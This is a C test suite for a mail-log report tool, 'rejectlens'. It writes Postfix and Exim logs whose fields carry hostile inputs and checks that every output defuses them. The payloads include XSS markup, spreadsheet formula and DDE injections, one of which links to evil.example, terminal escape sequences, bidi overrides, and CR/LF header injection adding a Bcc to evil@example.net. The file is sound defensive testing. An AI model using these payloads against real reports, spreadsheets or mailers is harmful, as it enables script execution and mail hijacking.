/*
 * test_hostile_content - a log written by an attacker, read and reported on
 *
 * Every byte of a mail log can come from the other side of an SMTP connection: a HELO name, an
 * address, a remote server's reply, a subject, even the host name in a forwarded syslog line.
 * This test writes a week of Postfix and Exim lines whose every such field carries, in turn,
 * markup and script (<script>, "><img onerror=...>, javascript: URLs, an SVG onload, a meta
 * refresh), spreadsheet formulas (=HYPERLINK(...), +cmd|..., @SUM, -2+3), terminal escape
 * sequences (ESC, BEL, C1 CSI as UTF-8 and as a raw byte), right-to-left overrides, NUL bytes,
 * invalid UTF-8 and a CR with a header after it; ingests it, and checks every output:
 *
 *   - the HTML report: the DOM headless Chromium builds has no script, no event handler
 *     attribute, no URL but a #fragment, and no script ran; the hostile texts are visible as
 *     text; its Content-Security-Policy stops a script planted in a copy (report_checks.py dom);
 *   - every CSV table: RFC 4180, valid UTF-8, no cell a formula, no raw control character;
 *   - the text report, summary, explain (text and TSV), and top, trace and query (table and
 *     TSV): valid UTF-8 without control characters or bidirectional overrides; their JSON
 *     valid and escaped, their CSV defused;
 *   - the mail: the header is what the report writes and nothing more, whatever the subject
 *     (the default one names the log's hosts) or a CR/LF in an address or --subject.
 */
#define _GNU_SOURCE /* strcasestr */
#include "testutil.h"

#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#define BIN    REJECTLENS_BIN
#define CHECKS SOURCE_DIR "/tests/report_checks.py"
#define WEEK   "--period 2026-01-12..2026-01-18 --now 2026-01-21 --top 50" /* every value listed */

/* a payload: its bytes may hold NUL, so it has a length */
struct payload {
    const char *name;
    const char *bytes;
    size_t len;
};

#define P(name, s)                                                                                 \
    {                                                                                              \
        name, s, sizeof s - 1                                                                      \
    }

static const struct payload payloads[] = {
    P("script", "<script>alert('rl-xss-one')</script>"),
    P("img-onerror", "\"><img src=x onerror=alert('rl-xss-two')>"),
    P("javascript-url", "javascript:alert('rl-xss-three')"),
    P("svg-onload", "<svg/onload=alert('rl-xss-four')>"),
    P("a-href", "<a href=\"javascript:alert('rl-xss-five')\">click</a>"),
    P("iframe", "<iframe src=\"data:text/html,<script>alert('rl-xss-six')</script>\"></iframe>"),
    P("meta-refresh",
      "</style></title><meta http-equiv=refresh content=\"0;url=javascript:alert('rl-xss')\">"),
    P("attribute", "' onmouseover='alert(\"rl-xss-eight\")' x='"),
    P("hyperlink", "=HYPERLINK(\"http://evil.example/?q=\"&A1,\"open\")"),
    P("dde", "+cmd|' /C calc'!A0"),
    P("sum", "@SUM(1+1)*cmd|' /C calc'!A0"),
    P("minus", "-2+3+cmd|' /C calc'!A0"),
    P("tab-formula", "\t=1+1"),
    P("ansi", "\x1b[2J\x1b]0;pwned\x07\x1b[31mred"),
    P("c1-utf8", "\xc2\x9b"
                 "31mcsi \xc2\x9d"
                 "0;osc\xc2\x9c"),
    P("c1-raw", "\x9b"
                "31mraw"),
    P("rlo", "\xe2\x80\xae"
             "gnp.exe \xe2\x81\xa6"
             "isolate"),
    P("nul", "nul\0byte"),
    P("bad-utf8", "\xff\xfe\xc0\xaf\xed\xa0\x80"
                  "bad"),
    P("cr-header", "x\rBcc: evil@example.net"),
    P("del-bs", "del\x7f\x08\x08bs"),
};
#define NPAYLOADS (sizeof payloads / sizeof payloads[0])

/* hosts a forwarded syslog line may name (no spaces: the header's host is one word) */
static const struct payload hosts[] = {
    P("host-script", "<script>alert('rl-xss-host')</script>"),
    P("host-cr", "mx2\rBcc:evil@example.net"),
    P("host-osc", "\x1b]0;pwned\x07mx3"),
};

static char dir[600], db[700];

/* put - the payload's bytes */
static void put(FILE *f, const struct payload *p)
{
    ck_assert_uint_eq(fwrite(p->bytes, 1, p->len, f), p->len);
}

/* ts - an RFC 3339 time in the week, different for every line */
static void ts(FILE *f, int n)
{
    fprintf(f, "2026-01-%02dT%02d:%02d:%02d.000000+00:00 ", 12 + n % 7, 8 + n % 12, n % 60,
            (n * 7) % 60);
}

/* write_postfix - each payload in each field a Postfix line has, and as an unparsed line */
static void write_postfix(const char *path)
{
    FILE *f = fopen(path, "wb");
    int n = 0;

    ck_assert_ptr_nonnull(f);
    for (size_t i = 0; i < NPAYLOADS; i++) {
        const struct payload *p = &payloads[i];
        /* the reply text */
        ts(f, n++);
        fprintf(f,
                "mx1 postfix/smtpd[100]: NOQUEUE: reject: RCPT from unknown[192.0.2.%zu]: 550 "
                "5.7.1 <u@example.com>: Recipient address rejected: ",
                i + 1);
        put(f, p);
        fputs("; from=<s@example.org> to=<u@example.com> proto=ESMTP helo=<h.example>\n", f);
        /* the addresses and the HELO name */
        ts(f, n++);
        fputs("mx1 postfix/smtpd[100]: NOQUEUE: reject: RCPT from unknown[192.0.2.200]: 550 5.1.1 "
              "<",
              f);
        put(f, p);
        fputs("@example.com>: Recipient address rejected: User unknown in virtual mailbox table; "
              "from=<",
              f);
        put(f, p);
        fputs("@evil.example> to=<", f);
        put(f, p);
        fputs("@example.com> proto=ESMTP helo=<", f);
        put(f, p);
        fputs(">\n", f);
        /* the client's name */
        ts(f, n++);
        fputs("mx1 postfix/smtpd[100]: NOQUEUE: reject: RCPT from ", f);
        put(f, p);
        fputs("[192.0.2.201]: 554 5.7.1 Service unavailable; Client host [192.0.2.201] blocked "
              "using zen.spamhaus.org; from=<a@b.example> to=<c@example.com> proto=ESMTP helo=<",
              f);
        put(f, p);
        fputs(">\n", f);
        /* the subject, as header_checks logs it, and the text of the rule */
        ts(f, n++);
        fprintf(f, "mx1 postfix/cleanup[300]: 7A%08zX: reject: header Subject: ", i + 1);
        put(f, p);
        fputs(" from unknown[192.0.2.202]; from=<", f);
        put(f, p);
        fputs("@evil.example> to=<v@example.com> proto=ESMTP helo=<", f);
        put(f, p);
        fputs(">: 5.7.1 ", f);
        put(f, p);
        fputc('\n', f);
        /* no known shape at all */
        put(f, p);
        fputs(" garbage ", f);
        put(f, p);
        fputc('\n', f);
    }
    for (size_t i = 0; i < sizeof hosts / sizeof hosts[0]; i++) {
        ts(f, n++);
        put(f, &hosts[i]);
        fputs(" postfix/smtpd[100]: NOQUEUE: reject: RCPT from unknown[192.0.2.203]: 550 5.1.1 "
              "<x@example.com>: Recipient address rejected: User unknown in virtual mailbox "
              "table; from=<s@example.org> to=<x@example.com> proto=ESMTP helo=<h>\n",
              f);
    }
    fclose(f);
}

/* write_exim - the payloads in an Exim mainlog's HELO, sender and reply */
static void write_exim(const char *path)
{
    FILE *f = fopen(path, "wb");

    ck_assert_ptr_nonnull(f);
    for (size_t i = 0; i < NPAYLOADS; i++) {
        fprintf(f, "2026-01-%02zu 10:%02zu:00 H=(", 12 + i % 7, i % 60);
        put(f, &payloads[i]);
        fprintf(f, ") [192.0.2.%zu] F=<", 100 + i);
        put(f, &payloads[i]);
        fputs("@evil.example> rejected RCPT <u@example.com>: ", f);
        put(f, &payloads[i]);
        fputc('\n', f);
    }
    fclose(f);
}

/* sh - run a shell command line built with printf; returns its status, stdout in *out */
__attribute__((format(printf, 3, 4))) static int sh(char **out, char **err, const char *fmt, ...)
{
    char cmd[8192];
    va_list ap;

    va_start(ap, fmt);
    vsnprintf(cmd, sizeof cmd, fmt, ap);
    va_end(ap);
    return tu_run(cmd, out, err);
}

/* checks - a report_checks.py subcommand must pass */
__attribute__((format(printf, 1, 2))) static void checks(const char *fmt, ...)
{
    char args[4000];
    char *out = NULL;
    va_list ap;
    int rc;

    va_start(ap, fmt);
    vsnprintf(args, sizeof args, fmt, ap);
    va_end(ap);
    rc = sh(&out, NULL, "python3 '%s' %s 2>&1", CHECKS, args);
    ck_assert_msg(rc == 0, "report_checks.py %s:\n%s", args, out ? out : "");
    free(out);
}

static void setup(void)
{
    char pf[800], ex[800];
    char *err = NULL;

    snprintf(dir, sizeof dir, "%s", tu_tempdir());
    snprintf(db, sizeof db, "%s/hostile.db", dir);
    if (tu_exists(db))
        return;
    snprintf(pf, sizeof pf, "%s/mail.log", dir);
    snprintf(ex, sizeof ex, "%s/mainlog", dir);
    write_postfix(pf);
    write_exim(ex);
    int rc = sh(NULL, &err, "TZ=UTC %s ingest -q --db '%s' '%s' '%s'", BIN, db, pf, ex);
    ck_assert_msg(rc == 0, "ingest: %d %s", rc, err ? err : "");
    free(err);
}

/* rl_to - "rejectlens ARGS > dir/NAME" must exit 0 */
__attribute__((format(printf, 2, 3))) static const char *rl_to(const char *name, const char *fmt,
                                                               ...)
{
    static char path[8][900];
    static int next;
    char args[3000], *err = NULL;
    char *p = path[next++ % 8];
    va_list ap;

    va_start(ap, fmt);
    vsnprintf(args, sizeof args, fmt, ap);
    va_end(ap);
    snprintf(p, sizeof path[0], "%s/%s", dir, name);
    int rc = sh(NULL, &err, "TZ=UTC %s %s > '%s'", BIN, args, p);
    ck_assert_msg(rc == 0, "rejectlens %s: %d %s", args, rc, err ? err : "");
    free(err);
    return p;
}

/* every event of the log went in: nothing hostile was dropped on the way */
START_TEST(test_ingested)
{
    setup();
    /* four Postfix events and an Exim one per payload, and the line of the host that is
     * markup; a host name with control characters is no syslog header (counted unparsed) */
    ck_assert_int_eq(tu_sql_int(db, "SELECT count(*) FROM events"), (long)(NPAYLOADS * 5 + 1));
    ck_assert_int_eq(tu_sql_int(db, "SELECT sum(unparsed_lines) FROM sources"),
                     (long)(NPAYLOADS + 2));
}
END_TEST

START_TEST(test_html)
{
    setup();
    const char *page = rl_to("week.html", "report --db '%s' " WEEK " --format html", db);
    /* the markup is shown as text, not run and not dropped */
    checks("dom '%s' '%s' \"<script>alert('rl-xss-\" \"onerror=alert('rl-xss-\" "
           "\"javascript:alert('rl-xss-\" '=hyperlink(' \"rl-xss-host\"",
           page, dir);
}
END_TEST

START_TEST(test_csv)
{
    static const char *const tables[] = {"categories",   "totals",    "daily",
                                         "top",          "templates", "examples",
                                         "unclassified", "sources",   "unparsed"};
    char csvdir[800], name[100], *all = NULL;

    setup();
    snprintf(csvdir, sizeof csvdir, "%s/csv", dir);
    ck_assert_int_eq(sh(NULL, NULL, "mkdir -p '%s'", csvdir), 0);
    for (size_t i = 0; i < sizeof tables / sizeof tables[0]; i++) {
        snprintf(name, sizeof name, "csv/%s.csv", tables[i]);
        rl_to(name, "report --db '%s' " WEEK " --format csv --table %s", db, tables[i]);
    }
    checks("csv-safe '%s'", csvdir);
    /* the formulas are there, defused */
    ck_assert_int_eq(sh(&all, NULL, "cat '%s'/*.csv", csvdir), 0);
    ck_assert_ptr_nonnull(strcasestr(all, "\"'=HYPERLINK("));
    ck_assert_ptr_nonnull(strcasestr(all, "\"'+cmd|"));
    ck_assert_ptr_nonnull(strcasestr(all, "\"'@SUM("));
    ck_assert_ptr_nonnull(strcasestr(all, "\"'-2+3+cmd|"));
    free(all);
}
END_TEST

/* the text report, summary and explain on a terminal; JSON anywhere */
START_TEST(test_text_outputs)
{
    char texts[800];

    setup();
    const char *report = rl_to("week.txt", "report --db '%s' " WEEK, db);
    const char *summary = rl_to("summary.txt", "summary --db '%s' --samples 100", db);
    const char *json = rl_to("week.json", "report --db '%s' " WEEK " --format json", db);
    /* explain each payload as a reply text, from a file (argv holds no NUL) */
    snprintf(texts, sizeof texts, "%s/texts", dir);
    FILE *f = fopen(texts, "wb");
    ck_assert_ptr_nonnull(f);
    for (size_t i = 0; i < NPAYLOADS; i++) {
        fputs("550 5.7.1 <", f);
        put(f, &payloads[i]);
        fputs("@example.com>: ", f);
        put(f, &payloads[i]);
        fputc('\n', f);
    }
    fclose(f);
    const char *explain = rl_to("explain.txt", "explain < '%s'", texts);
    const char *tsv = rl_to("explain.tsv", "explain --format tsv < '%s'", texts);
    const char *ejson = rl_to("explain.json", "explain --format json < '%s'", texts);
    checks("text-safe '%s' '%s' '%s' '%s'", report, summary, explain, tsv);
    checks("json-safe '%s' '%s'", json, ejson);
    /* shown, as escapes a reader can see */
    char *out = tu_read_file(report, NULL);
    ck_assert_ptr_nonnull(strstr(out, "\\x1b[2J\\x1b]0;pwned\\x07"));
    free(out);
    out = tu_read_file(summary, NULL);
    ck_assert_ptr_nonnull(strstr(out, "nul\\x00byte garbage nul\\x00byte"));
    ck_assert_ptr_nonnull(strstr(out, "\\x9b31mcsi"));
    free(out);
    out = tu_read_file(explain, NULL);
    ck_assert_ptr_nonnull(strstr(out, "\\x1b[2J"));
    ck_assert_ptr_nonnull(strstr(out, "\\u{202e}gnp.exe"));
    free(out);
}
END_TEST

/* top, trace and query, in each of their formats: tables and TSV for a terminal, CSV defused,
 * JSON valid and escaped */
START_TEST(test_adhoc_outputs)
{
    static const char *const tops[] = {"categories", "domains", "relays",     "clients",
                                       "senders",    "helos",   "recipients", "texts"};
    static const char *const formats[] = {"table", "tsv", "csv", "json"};
    /* each command: its options, then what it is about (which must come last) */
    char head[16][200], tail[16][200], name[100], csvdir[800];
    size_t n = 0;

    setup();
    for (size_t i = 0; i < sizeof tops / sizeof tops[0]; i++, n++) {
        snprintf(head[n], sizeof head[0],
                 "top --kind all --since 2026-01-12 --until 2026-01-19 --limit 100");
        snprintf(tail[n], sizeof tail[0], "%s", tops[i]);
    }
    static const char *const traces[] = {"--by domain evil.example", "--by ip 192.0.2.200",
                                         "--by ip 192.0.2.202"};
    for (size_t i = 0; i < sizeof traces / sizeof traces[0]; i++, n++) {
        snprintf(head[n], sizeof head[0], "trace --since 2026-01-12");
        snprintf(tail[n], sizeof tail[0], "%s", traces[i]);
    }
    static const char *const queries[] = {"'SELECT * FROM v_events ORDER BY ts'",
                                          "'SELECT line, reason FROM unparsed_lines'"};
    for (size_t i = 0; i < sizeof queries / sizeof queries[0]; i++, n++) {
        snprintf(head[n], sizeof head[0], "query");
        snprintf(tail[n], sizeof tail[0], "%s", queries[i]);
    }
    snprintf(csvdir, sizeof csvdir, "%s/adhoc-csv", dir);
    ck_assert_int_eq(sh(NULL, NULL, "mkdir -p '%s'", csvdir), 0);
    for (size_t i = 0; i < n; i++) {
        for (size_t f = 0; f < sizeof formats / sizeof formats[0]; f++) {
            const char *kind = formats[f];
            if (strcmp(kind, "csv") == 0)
                snprintf(name, sizeof name, "adhoc-csv/%zu.csv", i);
            else
                snprintf(name, sizeof name, "adhoc-%zu.%s", i, kind);
            const char *out =
                rl_to(name, "%s --db '%s' --format %s --wide %s", head[i], db, kind, tail[i]);
            if (strcmp(kind, "json") == 0)
                checks("json-safe '%s'", out);
            else if (strcmp(kind, "csv") != 0)
                checks("text-safe '%s'", out);
        }
    }
    checks("csv-safe '%s'", csvdir);
}
END_TEST

/* a log file whose name is hostile too: what ingest -v and sources print of it is safe */
START_TEST(test_file_name)
{
    static const char name[] = "mail-\x1b]0;pwned\x07-\xc2\x9b"
                               "2J-\xe2\x80\xae"
                               "gol.log";
    char log[900], fdb[800];

    setup();
    snprintf(log, sizeof log, "%s/%s", dir, name);
    snprintf(fdb, sizeof fdb, "%s/names.db", dir);
    tu_write_file(log,
                  "2026-01-13T09:00:00.000000+00:00 mx1 postfix/smtpd[7]: NOQUEUE: reject: RCPT "
                  "from unknown[192.0.2.7]: 554 5.7.1 <r@example.net>: Relay access denied; "
                  "from=<b@example.org> to=<r@example.net> proto=ESMTP helo=<y>\n",
                  -1);
    const char *ingest = rl_to("names-ingest.txt", "ingest -v --db '%s' '%s'", fdb, log);
    const char *sources = rl_to("names-sources.txt", "sources --db '%s'", fdb);
    checks("text-safe '%s' '%s'", ingest, sources);
    char *out = tu_read_file(sources, NULL);
    ck_assert_ptr_nonnull(strstr(out, "mail-\\x1b]0;pwned\\x07-\\x9b2J-\\u{202e}gol.log"));
    free(out);
}
END_TEST

/* the mail: the header is the report's own, whatever the log or the subject holds */
START_TEST(test_mail)
{
    char *err = NULL;

    setup();
    /* the default subject names the hosts, which the log gave */
    const char *m1 = rl_to(
        "default.eml", "report --db '%s' " WEEK " --mail-to admin@example.com --mail-dry-run", db);
    checks("mail-safe '%s'", m1);
    /* a subject with CR, LF, a header after them, and escapes */
    const char *m2 = rl_to("subject.eml",
                           "report --db '%s' " WEEK " --mail-to admin@example.com --mail-dry-run "
                           "--subject \"$(printf 'x\\r\\nBcc: evil@example.net\\r\\n\\r\\n"
                           "<script>\\033[31m')\"",
                           db);
    checks("mail-safe '%s'", m2);
    /* an address with a line break in it is refused, not sent */
    static const char *const bad[] = {
        "--mail-to \"$(printf 'a@example.com\\r\\nBcc: evil@example.net')\"",
        "--mail-to \"$(printf 'a@example.com\\rBcc: evil@example.net')\"",
        "--mail-to a@example.com --mail-from \"$(printf 'r@example.com\\nBcc: e@example.net')\"",
    };
    for (size_t i = 0; i < sizeof bad / sizeof bad[0]; i++) {
        int rc = sh(NULL, &err, "TZ=UTC %s report --db '%s' " WEEK " %s --mail-dry-run", BIN, db,
                    bad[i]);
        ck_assert_msg(rc == 2, "%s: exit %d", bad[i], rc);
        ck_assert_msg(strstr(err, "not a mail address") != NULL, "%s: %s", bad[i], err);
        ck_assert_msg(strchr(err, '\r') == NULL, "the refusal echoes a CR: %s", err);
        free(err);
        err = NULL;
    }
}
END_TEST

static Suite *suite(void)
{
    Suite *s = suite_create("hostile_content");
    TCase *tc = tcase_create("outputs");

    tcase_set_timeout(tc, 300);
    tcase_add_test(tc, test_ingested);
    tcase_add_test(tc, test_html);
    tcase_add_test(tc, test_csv);
    tcase_add_test(tc, test_text_outputs);
    tcase_add_test(tc, test_adhoc_outputs);
    tcase_add_test(tc, test_file_name);
    tcase_add_test(tc, test_mail);
    suite_add_tcase(s, tc);
    return s;
}

int main(void)
{
    setenv("TZ", "UTC", 1);
    unsetenv("REJECTLENS_DB");
    unsetenv("REJECTLENS_CONFIG");
    return tu_run_suite(suite());
}
